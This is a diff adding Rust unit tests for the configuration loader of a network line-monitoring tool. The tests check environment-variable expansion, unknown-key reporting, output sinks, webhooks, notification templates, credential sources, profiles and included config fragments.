+            [[lines]]
+            name = "Neither"
+        "#;
+
+        let parsed: FileConfig = toml::from_str(contents).unwrap();
+        let line = parsed.defaults.apply(&parsed.lines[0]);
+        assert_eq!(line.target, "8.8.8.8");
+        assert_eq!(line.fallback_targets, ["1.1.1.1", "9.9.9.9"]);
+        assert!(validate_targets(&parsed.lines[0]).is_ok());
+        assert!(validate_targets(&parsed.lines[1]).is_err());
+        assert!(validate_targets(&parsed.lines[2]).is_err());
+        assert!(
+            LineSettings::with_defaults("Primary", "10.0.0.1")
+                .fallback_targets
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn expands_environment_variables() {
+        let lookup = |name: &str| match name {
+            "CPE_TARGET" => Some("192.0.2.7".to_string()),
+            "RUNBOOK_HOST" => Some("wiki.example.com".to_string()),
+            _ => None,
+        };
+        let contents = r#"
+            # ${NOT_EXPANDED} in comments is fine
+            [defaults]
+            runbook_url = "https://${RUNBOOK_HOST}/runbooks/$${literal}"
+
+            [[lines]]
+            name = "Customer"
+            target = "${CPE_TARGET}"
+        "#;
+        let (parsed, _): (FileConfig, _) = parse_config(contents, lookup).unwrap();
+        let line = parsed.defaults.apply(&parsed.lines[0]);
+        assert_eq!(line.target, "192.0.2.7");
+        assert_eq!(
+            line.runbook_url.as_deref(),
+            Some("https://wiki.example.com/runbooks/${literal}")
+        );
+
+        let err = parse_config::<FileConfig>(
+            "[[lines]]\nname = \"A\"\ntarget = \"${MISSING}\"\n",
+            lookup,
+        )
+        .unwrap_err();
+        let message = format!("{err:#}");
+        assert!(message.contains("lines[0].target"), "{message}");
+        assert!(message.contains("Environment variable MISSING is not set"));
+        assert!(expand_env("${OPEN", &lookup).is_err());
+        assert_eq!(expand_env("cost: $5", &lookup).unwrap(), "cost: $5");
+    }
+
+    #[test]
+    fn locates_unknown_keys_and_rejects_them_when_strict() {
+        let contents = concat!(
+            "[defaults]\n",
+            "ping_cout = 3\n",
+            "\n",
+            "[[lines]]\n",
+            "name = \"A\"\n",
+            "target = \"192.0.2.1\"\n",
+            "\n",
+            "[[lines]]\n",
+            "name = \"B\"\n",
+            "target = \"192.0.2.2\"\n",
+            "  hop_loss_overrides = [{ hop = 3, alert_pct = 100.0, limit = 2 }]\n",
+        );
+        let (_, unknown): (FileConfig, _) = parse_config(contents, |_| None).unwrap();
+        assert_eq!(
+            unknown,
+            vec![
+                UnknownKey {
+                    path: "defaults.ping_cout".into(),
+                    position: Some((2, 1)),
+                },
+                UnknownKey {
+                    path: "lines[1].hop_loss_overrides[0].limit".into(),
+                    position: Some((11, 55)),
+                },
+            ]
+        );
+
+        let err = parse_config::<FileConfig>(
+            "[[lines]]\nname = \"A\"\ntarget = \"x\"\nping_count = \"five\"\n",
+            |_| None,
+        )
+        .unwrap_err();
+        let message = format!("{err:#}");
+        assert!(message.contains("lines[0].ping_count"), "{message}");
+        assert!(message.contains("line 4, column 14"), "{message}");
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        fs::write(&path, contents).unwrap();
+        assert!(load_config(&path, &LoadOptions::default()).is_ok());
+        let strict = LoadOptions {
+            profile: None,
+            strict: true,
+        };
+        let err = format!("{:#}", load_config(&path, &strict).unwrap_err());
+        assert!(
+            err.contains("defaults.ping_cout (line 2, column 1)"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn reads_run_settings_from_configs() {
+        let dir = tempfile::tempdir().unwrap();
+        let first = dir.path().join("a.toml");
+        let second = dir.path().join("b.toml");
+        fs::write(
+            &first,
+            r#"
+            [run]
+            concurrency = 4
+            timeout = "2m"
+            output = "json"
+            history = "history.db"
+
+            [[lines]]
+            name = "A"
+            target = "192.0.2.1"
+        "#,
+        )
+        .unwrap();
+        fs::write(
+            &second,
+            r#"
+            [run]
+            concurrency = 4
+            skip_traceroute = true
+            notify_only_on_alert = true
+
+            [[lines]]
+            name = "B"
+            target = "192.0.2.2"
+        "#,
+        )
+        .unwrap();
+        let settings =
+            load_run_settings(&read_configs(&[first.clone(), second.clone()]).unwrap()).unwrap();
+        assert_eq!(
+            settings,
+            RunSettings {
+                concurrency: Some(4),
+                timeout: Some(Duration::from_secs(120)),
+                skip_traceroute: Some(true),
+                notify_only_on_alert: Some(true),
+                output: Some(OutputFormat::Json),
+                history: Some(dir.path().join("history.db")),
+            }
+        );
+
+        fs::write(
+            &second,
+            r#"
+            [run]
+            concurrency = 8
+
+            [[lines]]
+            name = "B"
+            target = "192.0.2.2"
+        "#,
+        )
+        .unwrap();
+        let err = format!(
+            "{:#}",
+            load_run_settings(&read_configs(&[first, second.clone()]).unwrap()).unwrap_err()
+        );
+        assert!(
+            err.contains("run.concurrency is set to different values"),
+            "{err}"
+        );
+
+        fs::write(
+            &second,
+            r#"
+            [run]
+            concurrency = 0
+
+            [[lines]]
+            name = "B"
+            target = "192.0.2.2"
+        "#,
+        )
+        .unwrap();
+        assert!(load_config(&second, &LoadOptions::default()).is_err());
+    }
+
+    #[test]
+    fn reads_output_sinks() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        let config =
+            |output: &str| format!("{output}\n[[lines]]\nname = \"HQ\"\ntarget = \"192.0.2.1\"\n");
+        fs::write(&path, config("")).unwrap();
+        assert_eq!(
+            load_output_sinks(&read_configs(std::slice::from_ref(&path)).unwrap()).unwrap(),
+            OutputSettings::default()
+        );
+
+        fs::write(
+            &path,
+            config(
+                r#"
+                [output.influxdb]
+                url = "http://influxdb.lan:8086/"
+                org = "home"
+                bucket = "network"
+                token_file = "secrets/influx"
+
+                [output.graphite]
+                host = "carbon.lan"
+
+                [output.syslog]
+                transport = "journald"
+                facility = "local3"
+
+                [output.mqtt]
+                host = "mqtt.lan"
+                tls = true
+                username = "probe"
+                password_env = "MQTT_PASSWORD"
+                "#,
+            ),
+        )
+        .unwrap();
+        assert_eq!(
+            load_output_sinks(&read_configs(std::slice::from_ref(&path)).unwrap()).unwrap(),
+            OutputSettings {
+                influxdb: Some(InfluxDbSettings {
+                    url: "http://influxdb.lan:8086".into(),
+                    destination: InfluxDbDestination::Bucket {
+                        bucket: "network".into(),
+                        org: Some("home".into()),
+                    },
+                    measurement: "icmpmolester".into(),
+                    token: Some(Secret::File(dir.path().join("secrets/influx"))),
+                }),
+                graphite: Some(GraphiteSettings {
+                    host: "carbon.lan".into(),
+                    port: 2003,
+                    prefix: "icmpmolester".into(),
+                }),
+                syslog: Some(SyslogSettings {
+                    transport: SyslogTransport::Journald,
+                    facility: 19,
+                    ident: "icmpmolester".into(),
+                    socket: PathBuf::from("/run/systemd/journal/socket"),
+                }),
+                mqtt: Some(MqttSettings {
+                    host: "mqtt.lan".into(),
+                    port: 8883,
+                    tls: true,
+                    username: Some("probe".into()),
+                    password: Some(Secret::Env("MQTT_PASSWORD".into())),
+                    client_id: None,
+                    topic_prefix: "icmpmolester".into(),
+                    retain: true,
+                }),
+            }
+        );
+
+        fs::write(
+            &path,
+            config("[output.influxdb]\nurl = \"http://db:8086\"\nbucket = \"a\"\ndatabase = \"b\""),
+        )
+        .unwrap();
+        let err = format!(
+            "{:#}",
+            load_config(&path, &LoadOptions::default()).unwrap_err()
+        );
+        assert!(
+            err.contains("Set one of output.influxdb.bucket and output.influxdb.database"),
+            "{err}"
+        );
+
+        fs::write(&path, config("[output.syslog]\nfacility = \"local9\"")).unwrap();
+        let err = format!(
+            "{:#}",
+            load_config(&path, &LoadOptions::default()).unwrap_err()
+        );
+        assert!(
+            err.contains("output.syslog.facility must be one of"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn reads_notification_webhooks() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        let config = |notifications: &str| {
+            format!("{notifications}\n[[lines]]\nname = \"HQ\"\ntarget = \"192.0.2.1\"\n")
+        };
+        fs::write(
+            &path,
+            config(
+                r#"
+                [[notifications.webhook]]
+                url = "https://hooks.example.com/icmp"
+                headers = { Authorization = "Bearer abc" }
+                secret_file = "secrets/hook"
+
+                [[notifications.webhook]]
+                url = "http://collector.lan/runs"
+                retries = 0
+                "#,
+            ),
+        )
+        .unwrap();
+        assert_eq!(
+            load_notification_webhooks(&read_configs(std::slice::from_ref(&path)).unwrap())
+                .unwrap(),
+            vec![
+                JsonWebhookSettings {
+                    url: "https://hooks.example.com/icmp".into(),
+                    headers: BTreeMap::from([("Authorization".into(), "Bearer abc".into())]),
+                    secret: Some(Secret::File(dir.path().join("secrets/hook"))),
+                    signature_header: "X-ICMPMolester-Signature".into(),
+                    retries: 2,
+                },
+                JsonWebhookSettings {
+                    url: "http://collector.lan/runs".into(),
+                    headers: BTreeMap::new(),
+                    secret: None,
+                    signature_header: "X-ICMPMolester-Signature".into(),
+                    retries: 0,
+                },
+            ]
+        );
+
+        fs::write(
+            &path,
+            config("[[notifications.webhook]]\nurl = \"https://h\"\nsignature_header = \"X-Sig\""),
+        )
+        .unwrap();
+        let err = format!(
+            "{:#}",
+            load_config(&path, &LoadOptions::default()).unwrap_err()
+        );
+        assert!(err.contains("needs a secret to sign with"), "{err}");
+    }
+
+    #[test]
+    fn reads_notification_templates() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        let config = |notifications: &str| {
+            format!("{notifications}\n[[lines]]\nname = \"HQ\"\ntarget = \"192.0.2.1\"\n")
+        };
+        fs::write(
+            &path,
+            config(
+                r#"
+                [notifications.templates.email]
+                subject = "[{{ rollup.status }}] {{ run.hostname }}"
+                body_file = "templates/email.tera"
+
+                [notifications.templates.telegram]
+                body = "{{ counts.ALERT }} of {{ counts.total }} down"
+                "#,
+            ),
+        )
+        .unwrap();
+        assert_eq!(
+            load_notification_templates(&read_configs(std::slice::from_ref(&path)).unwrap())
+                .unwrap(),
+            BTreeMap::from([
+                (
+                    "email".to_string(),
+                    ChannelTemplateSettings {
+                        subject: Some("[{{ rollup.status }}] {{ run.hostname }}".into()),
+                        body: Some(TemplateBody::File(dir.path().join("templates/email.tera"))),
+                    }
+                ),
+                (
+                    "telegram".to_string(),
+                    ChannelTemplateSettings {
+                        subject: None,
+                        body: Some(TemplateBody::Inline(
+                            "{{ counts.ALERT }} of {{ counts.total }} down".into()
+                        )),
+                    }
+                ),
+            ])
+        );
+
+        for (table, expected) in [
+            (
+                "[notifications.templates.telgram]\nbody = \"x\"",
+                "telgram is not a channel",
+            ),
+            (
+                "[notifications.templates.email]\nbody = \"x\"\nbody_file = \"x.tera\"",
+                "sets both body and body_file",
+            ),
+        ] {
+            fs::write(&path, config(table)).unwrap();
+            let err = format!(
+                "{:#}",
+                load_config(&path, &LoadOptions::default()).unwrap_err()
+            );
+            assert!(err.contains(expected), "{err}");
+        }
+    }
+
+    #[test]
+    fn reads_credential_sources_from_configs() {
+        let dir = tempfile::tempdir().unwrap();
+        let main = dir.path().join("lines.toml");
+        fs::write(
+            &main,
+            r#"
+            [email]
+            password_file = "secrets/smtp"
+
+            [telegram]
+            token_env = "TELEGRAM_TOKEN"
+
+            [matrix]
+            token_keyring = "matrix"
+
+            [xmpp]
+            password_env = "XMPP_PASSWORD"
+
+            [[lines]]
+            name = "HQ"
+            target = "192.0.2.1"
+            "#,
+        )
+        .unwrap();
+        let credentials =
+            load_credentials(&read_configs(std::slice::from_ref(&main)).unwrap()).unwrap();
+        assert_eq!(
+            credentials.email_password,
+            Some(Secret::File(dir.path().join("secrets/smtp")))
+        );
+        assert_eq!(
+            credentials.telegram_token,
+            Some(Secret::Env("TELEGRAM_TOKEN".into()))
+        );
+        assert_eq!(
+            credentials.matrix_token,
+            Some(Secret::Keyring("matrix".into()))
+        );
+        assert_eq!(
+            credentials.xmpp_password,
+            Some(Secret::Env("XMPP_PASSWORD".into()))
+        );
+
+        let other = dir.path().join("other.toml");
+        fs::write(
+            &other,
+            "[telegram]\ntoken_keyring = \"bot\"\n[[lines]]\nname = \"B\"\ntarget = \"192.0.2.2\"\n",
+        )
+        .unwrap();
+        let err = load_credentials(&read_configs(&[main, other.clone()]).unwrap()).unwrap_err();
+        assert!(
+            err.to_string()
+                .starts_with("telegram.token is set to different sources")
+        );
+
+        fs::write(
+            &other,
+            "[email]\npassword_env = \"A\"\npassword_keyring = \"b\"\n",
+        )
+        .unwrap();
+        let err = load_credentials(&read_configs(&[other]).unwrap()).unwrap_err();
+        assert!(
+            format!("{err:#}").contains("Set only one of email.password_file"),
+            "{err:#}"
+        );
+    }
+
+    #[test]
+    fn profiles_override_every_line() {
+        let profile = |name: &str| LoadOptions {
+            profile: Some(name.to_string()),
+            strict: false,
+        };
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        fs::write(
+            &path,
+            r#"
+            [profiles.quick]
+            ping_count = 2
+            ping_timeout_ms = 500
+            traceroute = false
+
+            [profiles.thorough]
+            ping_count = 50
+            traceroute = true
+            mtr_cycles = 10
+
+            [[lines]]
+            name = "Fiber"
+            target = "192.0.2.1"
+            ping_count = 8
+
+            [[lines]]
+            name = "LTE"
+            target = "192.0.2.2"
+            checks = ["ping"]
+            "#,
+        )
+        .unwrap();
+
+        let plain = load_config(&path, &LoadOptions::default()).unwrap();
+        assert_eq!(plain.lines[0].ping_count, 8);
+        assert_eq!(plain.lines[1].checks, [CheckKind::Ping]);
+
+        let quick = load_config(&path, &profile("quick")).unwrap();
+        for line in &quick.lines {
+            assert_eq!(line.ping_count, 2);
+            assert_eq!(line.ping_timeout_ms, 500);
+            assert_eq!(line.checks, [CheckKind::Ping]);
+        }
+
+        let thorough = load_config(&path, &profile("thorough")).unwrap();
+        assert_eq!(thorough.lines[1].ping_count, 50);
+        assert_eq!(thorough.lines[1].mtr_cycles, Some(10));
+        assert_eq!(
+            thorough.lines[1].checks,
+            [CheckKind::Ping, CheckKind::Traceroute]
+        );
+
+        let err = format!("{:#}", load_config(&path, &profile("deep")).unwrap_err());
+        assert!(err.contains("available: quick, thorough"), "{err}");
+    }
+
+    #[test]
+    fn merges_included_fragments_with_shared_defaults() {
+        let dir = tempfile::tempdir().unwrap();
+        let main = dir.path().join("lines.toml");
+        fs::write(
+            &main,
+            r#"
+            include = ["lines.d/*.toml", "extra"]
+
+            [defaults]
+            ping_count = 7
+
+            [[lines]]
+            name = "HQ"
+            target = "192.0.2.1"
+            "#,
+        )
+        .unwrap();
+        fs::create_dir_all(dir.path().join("lines.d")).unwrap();
+        fs::create_dir_all(dir.path().join("extra")).unwrap();
+        fs::write(
+            dir.path().join("lines.d/milan.toml"),
+            "[[lines]]\nname = \"Milan\"\ntarget = \"192.0.2.2\"\nping_count = 3\n",
+        )
+        .unwrap();
+        fs::write(
+            dir.path().join("lines.d/berlin.toml"),
+            "[[lines]]\nname = \"Berlin\"\ntarget = \"192.0.2.3\"\n",
+        )
+        .unwrap();
+        fs::write(dir.path().join("lines.d/README.md"), "not a config").unwrap();
+        fs::write(
+            dir.path().join("extra/lab.toml"),
+            "[[lines]]\nname = \"Lab\"\ntarget = \"192.0.2.4\"\n",
+        )
+        .unwrap();
+
+        let config = load_config(&main, &LoadOptions::default()).unwrap();
+        let lines: Vec<_> = config
+            .lines
+            .iter()
+            .map(|line| (line.name.as_str(), line.ping_count))
+            .collect();
+        assert_eq!(lines, [("HQ", 7), ("Berlin", 7), ("Milan", 3), ("Lab", 7)]);
+
+        fs::write(
+            dir.path().join("extra/dup.toml"),
+            "[[lines]]\nname = \"Milan\"\ntarget = \"192.0.2.5\"\n",
+        )
+        .unwrap();
+        let err = format!(
+            "{:#}",
+            load_config(&main, &LoadOptions::default()).unwrap_err()
+        );
+        assert!(err.contains("Line 'Milan' is defined in both"), "{err}");
+
+        fs::write(
+            dir.path().join("extra/dup.toml"),
+            "[defaults]\nping_count = 1\n",
+        )
+        .unwrap();
+        let err = format!(
+            "{:#}",
+            load_config(&main, &LoadOptions::default()).unwrap_err()
+        );
+        assert!(err.contains("dup.toml"), "{err}");
+        assert!(err.contains("unknown field `defaults`"), "{err}");
+
+        assert!(wildcard_match("*.toml", "site-a.toml"));
+        assert!(wildcard_match("site-?.toml", "site-b.toml"));
+        assert!(!wildcard_match("*.toml", "site.toml.bak"));
     }
 }